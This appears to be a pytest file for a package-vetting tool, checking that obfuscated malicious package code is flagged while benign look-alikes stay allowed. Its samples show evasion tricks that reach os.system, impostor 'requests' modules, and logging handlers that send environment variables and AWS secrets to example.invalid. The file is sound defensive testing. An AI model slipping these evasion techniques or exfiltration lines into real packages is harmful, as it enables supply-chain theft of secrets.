"""Payloads a patient adversary tries after reading ADR 0071's list of what is still allowed
(ADR 0073): names bound with no assignment written (``globals().update``, ``setattr`` of the
module, the builtins' dict), modules from ``map(__import__, ...)``, a function reached
through its code or ``__func__``, ``singledispatch`` registrations, a generator's ``send``,
an exception's ``args``, the module's own tail executed, log records sent by a network
handler, an impostor put with ``sys.modules.update`` or built with ``types.ModuleType``, and
entry points passed to ``setup()`` under a key spelt in pieces.

Each sample is inert (a command ``id``, a host under ``example.invalid``, never run or
installed: vetting only reads files) and each was allowed on 70aaa8c. Each near-miss is
written the way real packages write the same construct, and stays allowed."""

from __future__ import annotations

import ast

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages import flow
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist
from tests.unit.imports.packages.adversary import RUN, init, vet_wheel

POST = "urllib.request.urlopen('http://example.invalid/x', data={data})"
HANDLER = "logging.handlers.{cls}('example.invalid', {where})"
PLUGIN = f"import os\n\n\ndef pytest_configure(config):\n    {RUN}\n"

EVASIONS: dict[str, dict[str, str]] = {
    "map-import-then-an-attribute": init("m = list(map(__import__, ['os']))\nm[0].system('id')\n"),
    "map-import-next": init("os_ = next(map(__import__, ['os']))\nos_.system('id')\n"),
    "map-import-unpacked": init("a, b = map(__import__, ['os', 'sys'])\na.system('id')\n"),
    "map-import-looped": init("for m in map(__import__, ['os']):\n    m.system('id')\n"),
    "modules-imported-by-a-comprehension": init(
        "[__import__(n) for n in ['os']][0].system('id')\n"
    ),
    "globals-update-keywords": init("import os\nglobals().update(run=os.system)\nrun('id')\n"),
    "globals-update-dict": init("import os\nglobals().update({'run': os.system})\nrun('id')\n"),
    "globals-item-assigned": init("import os\nglobals()['run'] = os.system\nrun('id')\n"),
    "globals-update-read-by-a-function": init(
        "import os\n\n\ndef run(c):\n    pass\n\n\nglobals().update(run=os.system)\n\n\n"
        "def go():\n    run('id')\n\n\ngo()\n"
    ),
    "setattr-of-the-module": init(
        "import os, sys\nsetattr(sys.modules[__name__], 'run', os.system)\nrun('id')\n"
    ),
    "vars-of-the-module": init(
        "import os, sys\nvars(sys.modules[__name__])['run'] = os.system\nrun('id')\n"
    ),
    "builtins-dict-updated": init(
        "import os, builtins\nbuiltins.__dict__.update(print=os.system)\nprint('id')\n"
    ),
    "builtins-setattr": init(
        "import os, builtins\nsetattr(builtins, 'print', os.system)\nprint('id')\n"
    ),
    "code-swapped": init(
        f"import os\n\n\ndef f():\n    {RUN}\n\n\ndef g():\n    pass\n\n\n"
        "g.__code__ = f.__code__\ng()\n"
    ),
    "code-executed": init(f"import os\n\n\ndef f():\n    {RUN}\n\n\nexec(f.__code__)\n"),
    "function-made-of-code": init(
        f"import os, types\n\n\ndef f():\n    {RUN}\n\n\n"
        "types.FunctionType(f.__code__, globals())()\n"
    ),
    "singledispatch-decorator": init(
        "import os, functools\n\n\n@functools.singledispatch\ndef f(x):\n    pass\n\n\n"
        f"@f.register(int)\ndef _(x):\n    {RUN}\n\n\nf(1)\n"
    ),
    "singledispatch-register-call": init(
        "import os, functools\n\n\n@functools.singledispatch\ndef f(x):\n    pass\n\n\n"
        f"def g(x):\n    {RUN}\n\n\nf.register(int, g)\nf(1)\n"
    ),
    "staticmethod-in-a-class-dict-through-func": init(
        f"import os\n\n\nclass C:\n    def a():\n        {RUN}\n\n"
        "    H = {'a': staticmethod(a)}\n\n\nC.H['a'].__func__()\n"
    ),
    "classmethod-through-func": init(
        f"import os\n\n\nclass C:\n    @classmethod\n    def a(cls):\n        {RUN}\n\n\n"
        "C.a.__func__(C)\n"
    ),
    "generator-sent-a-command": init(
        "import os\n\n\ndef g():\n    while True:\n        c = yield\n        os.system(c)\n\n\n"
        "x = g()\nnext(x)\nx.send('id')\n"
    ),
    "generator-yields-a-sink": init(
        "import os\n\n\ndef g():\n    yield os.system\n\n\nnext(g())('id')\n"
    ),
    "sink-in-exception-args": init(
        "import os\ntry:\n    raise ValueError(os.system)\n"
        "except ValueError as e:\n    e.args[0]('id')\n"
    ),
    "code-in-exception-args": init(
        "try:\n    raise ValueError(\"import os; os.system('id')\")\n"
        "except ValueError as e:\n    exec(e.args[0])\n"
    ),
    "exception-whose-str-runs": init(
        f"import os\n\n\nclass E(Exception):\n    def __str__(self):\n        {RUN}\n"
        "        return ''\n\n\ntry:\n    raise E()\nexcept E as e:\n    str(e)\n"
    ),
    "own-tail-executed": init(
        "exec(open(__file__).read().split('#' + '--')[-1].replace('#', ''))\n"
        "#--\n#import os; os.system('id')\n"
    ),
    "own-tail-executed-through-a-file-object": init(
        "with open(__file__) as f:\n    exec(f.read().partition('#' + '--')[2].replace('#', ''))\n"
        "#--\n#import os; os.system('id')\n"
    ),
    "http-log-handler-fed-the-environment": init(
        "import logging, logging.handlers, os\n"
        f"h = {HANDLER.format(cls='HTTPHandler', where=repr('/x'))}\n"
        "log = logging.getLogger('x')\nlog.addHandler(h)\nlog.warning('%s', dict(os.environ))\n"
    ),
    "socket-log-handler-fed-the-environment": init(
        "import logging, logging.handlers, os\n"
        f"h = {HANDLER.format(cls='SocketHandler', where=9020)}\n"
        "logging.getLogger().addHandler(h)\nlogging.getLogger().error(str(os.environ))\n"
    ),
    "log-handler-configured-by-dict": init(
        "import logging.config, os\nlogging.config.dictConfig({'version': 1, 'handlers': "
        "{'h': {'class': 'logging.handlers.' + 'HTTPHandler', 'host': 'example.invalid', "
        "'url': '/x'}}, 'root': {'handlers': ['h']}})\n"
        "logging.getLogger().error(os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"
    ),
    "log-handler-given-to-basic-config": init(
        "import logging, logging.handlers, os\n"
        f"h = {HANDLER.format(cls='HTTPHandler', where=repr('/x'))}\n"
        "logging.basicConfig(handlers=[h])\nlogging.error(os.environ['HOME'])\n"
    ),
    "sys-modules-update": {
        "evpkg/__init__.py": (
            "import sys\nfrom . import fake\nsys.modules.update({'requests': fake})\n"
        ),
        "evpkg/fake.py": (
            "import urllib.request\n\n\ndef get(url, **kw):\n"
            f"    {POST.format(data='str(kw).encode()')}\n"
        ),
    },
    "impostor-made-with-module-type": init(
        "import sys, types, urllib.request\nm = types.ModuleType('requests')\n\n\n"
        f"def get(url, **kw):\n    {POST.format(data='str(kw).encode()')}\n\n\n"
        "setattr(m, 'get', get)\nsys.modules['requests'] = m\n"
    ),
    "object-getattribute": init("import os\nobject.__getattribute__(os, 'system')('id')\n"),
    "simple-namespace-attribute": init(
        "import os, types\ntypes.SimpleNamespace(run=os.system).run('id')\n"
    ),
    "defaultdict-factory": init(
        "import os, collections\nd = collections.defaultdict(lambda: os.system('id'))\nd['x']\n"
    ),
    "match-capture": init("import os\nmatch 'id':\n    case c:\n        os.system(c)\n"),
}


@pytest.mark.parametrize("key", sorted(EVASIONS))
def test_a_patient_adversarys_payload_is_not_allowed(key: str) -> None:
    assert vet_wheel(EVASIONS[key]) is not Outcome.ALLOW


def _vet_sdist(setup: str, plugin: str = PLUGIN) -> Outcome:
    files = {"setup.py": setup, "evpkg/__init__.py": "", "evpkg/plug.py": plugin}
    return vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files)).verdict


SETUP = "from setuptools import setup\n"
SPELT_ENTRY_POINTS = {
    "entry-points-key-built-of-pieces": SETUP
    + "setup(name='evpkg', **{'entry_' + 'points': {'pytest11': ['x = evpkg.plug']}})\n",
    "entry-points-set-in-a-dict-item": SETUP
    + "kw = {}\nkw['entry_' + 'points'] = {'pytest' + '11': ['x = evpkg.plug']}\n"
    + "setup(name='evpkg', **kw)\n",
    "entry-points-of-dict-keywords": SETUP
    + "setup(name='evpkg', **dict([('entry_' + 'points', dict(pytest11=['x = evpkg.plug']))]))\n",
}


@pytest.mark.parametrize("key", sorted(SPELT_ENTRY_POINTS))
def test_an_auto_loaded_plugin_declared_under_a_spelt_key_is_read(key: str) -> None:
    assert _vet_sdist(SPELT_ENTRY_POINTS[key]) is not Outcome.ALLOW


NEAR_MISSES: dict[str, dict[str, str]] = {
    # Compatibility shims fill the module's names from a table or an implementation module.
    "globals-update-of-helpers": init(
        "import json\nglobals().update(VERSION='1.0', dumps=json.dumps)\nTEXT = dumps({})\n"
    ),
    "globals-update-of-a-comprehension": init(
        "import json\nglobals().update({n: getattr(json, n) for n in ('dumps', 'loads')})\n"
    ),
    "setattr-of-the-module-for-a-constant": init(
        "import sys\nsetattr(sys.modules[__name__], 'DEBUG', False)\n"
    ),
    "map-import-of-a-harmless-module": init(
        "json = list(map(__import__, ['json']))[0]\nTEXT = json.dumps({})\n"
    ),
    "modules-imported-in-a-loop-of-harmless-names": init(
        "for m in map(__import__, ['json', 'csv']):\n    NAME = m.__name__\n"
        "DUMPS = [getattr(__import__('json'), n) for n in ('dumps', 'loads')][0]\n"
    ),
    "code-object-inspected": init("def f(a, b):\n    pass\n\n\nARGS = f.__code__.co_argcount\n"),
    "singledispatch-of-formatters": init(
        "import functools\n\n\n@functools.singledispatch\ndef fmt(x):\n    return str(x)\n\n\n"
        "@fmt.register(float)\ndef _(x):\n    return f'{x:.2f}'\n\n\nTEXT = fmt(1.0)\n"
    ),
    "staticmethods-in-a-class-dict": init(
        "class C:\n    def a(x):\n        return x + 1\n\n    H = {'a': staticmethod(a)}\n\n\n"
        "N = C.H['a'].__func__(1)\n"
    ),
    "averaging-coroutine": init(
        "def averager():\n    total, n = 0, 0\n    while True:\n"
        "        x = yield total / max(n, 1)\n"
        "        total, n = total + x, n + 1\n\n\ng = averager()\nnext(g)\nMEAN = g.send(10)\n"
    ),
    "exception-args-logged": init(
        "import logging\ntry:\n    raise ValueError('bad value')\nexcept ValueError as e:\n"
        "    logging.getLogger(__name__).debug('%s', e.args[0])\n"
    ),
    "docstring-read-from-its-own-file": init(
        '"""Doc."""\nDOC = open(__file__).read().split(\'"""\')[1]\n'
    ),
    "names-split-and-defaulted": init(
        "import os\nNAMES = 'A B'.split()\nfor n in NAMES:\n    os.environ.setdefault(n, '1')\n"
    ),
    "log-handler-made-by-a-configuration-helper": init(
        "import logging, logging.handlers\n\n\ndef setup_remote_logging(host):\n"
        "    h = logging.handlers.HTTPHandler(host, '/log')\n"
        "    logging.getLogger('evpkg').addHandler(h)\n"
        "    logging.getLogger('evpkg').info('started')\n"
    ),
    # dill's own shape (its table of sample objects; held by this ADR's first form, found
    # on the coordinator's held-out run): a handler made on import, nothing logged to it.
    "socket-log-handler-made-as-a-sample": init(
        "import logging, logging.handlers, os, socket\na = {}\n"
        "a['FileHandlerType'] = logging.FileHandler(os.devnull)\n"
        "a['SocketHandlerType'] = logging.handlers.SocketHandler('localhost', 514)\n"
        "a['SocketType'] = socket.socket()\n"
    ),
    "environment-logged-to-the-console": init(
        "import logging, os\nlog = logging.getLogger(__name__)\n"
        "log.addHandler(logging.StreamHandler())\nlog.debug('home %s', os.environ.get('HOME'))\n"
    ),
    "own-module-under-another-name-by-update": {
        "evpkg/__init__.py": (
            "import sys\nfrom . import compat\nsys.modules.update({'evpkg.six': compat})\n"
        ),
        "evpkg/compat.py": "def u(s):\n    return s\n",
    },
    "lazy-module-made-with-module-type": init(
        "import sys, types, json\nm = types.ModuleType('evpkg.lazy')\n"
        "setattr(m, 'dumps', json.dumps)\nsys.modules['evpkg.lazy'] = m\n"
    ),
    "defaultdict-of-lists": init(
        "import collections\nD = collections.defaultdict(list)\nD['a'].append(1)\n"
        "E = collections.defaultdict(lambda: collections.defaultdict(int))\n"
    ),
    "simple-namespace-of-helpers": init(
        "import json, types\nNS = types.SimpleNamespace(dumps=json.dumps)\nTEXT = NS.dumps({})\n"
    ),
    "match-capture-of-the-platform": init(
        "import sys\nmatch sys.platform:\n    case 'win32':\n        SEP = ';'\n    case p:\n"
        "        SEP = ':' + p[:0]\n"
    ),
}


@pytest.mark.parametrize("key", sorted(NEAR_MISSES))
def test_the_same_construct_written_as_real_packages_write_it_stays_allowed(key: str) -> None:
    assert vet_wheel(NEAR_MISSES[key]) is Outcome.ALLOW


def test_a_harmless_plugin_declared_under_a_spelt_key_stays_allowed() -> None:
    harmless = "def pytest_configure(config):\n    config.addinivalue_line('markers', 'slow')\n"
    setup = SPELT_ENTRY_POINTS["entry-points-key-built-of-pieces"]
    assert _vet_sdist(setup, harmless) is Outcome.ALLOW
    console = SETUP + "setup(name='evpkg', **{'entry_' + 'points': {'console_scripts': "
    console += "['x = evpkg.plug:pytest_configure']}})\n"
    assert _vet_sdist(console) is Outcome.ALLOW  # a person runs a console script


def test_a_record_sent_by_a_log_handler_names_the_handlers_host() -> None:
    """Only a sink's text is built (ADR 0074): a handler's host was lost at the merge, and
    the record's send named no host ('?')."""
    source = (
        "import logging, logging.handlers, os\n"
        "h = logging.handlers.HTTPHandler('example.invalid', '/x')\n"
        "logging.getLogger().addHandler(h)\nlogging.error(str(os.environ))\n"
    )
    traced = flow.trace(ast.parse(source), install_time=False, source=source)
    sent = [e for e in traced.events if e.callee == "logging.handlers.emit"]
    assert sent
    assert "example.invalid" in sent[0].text
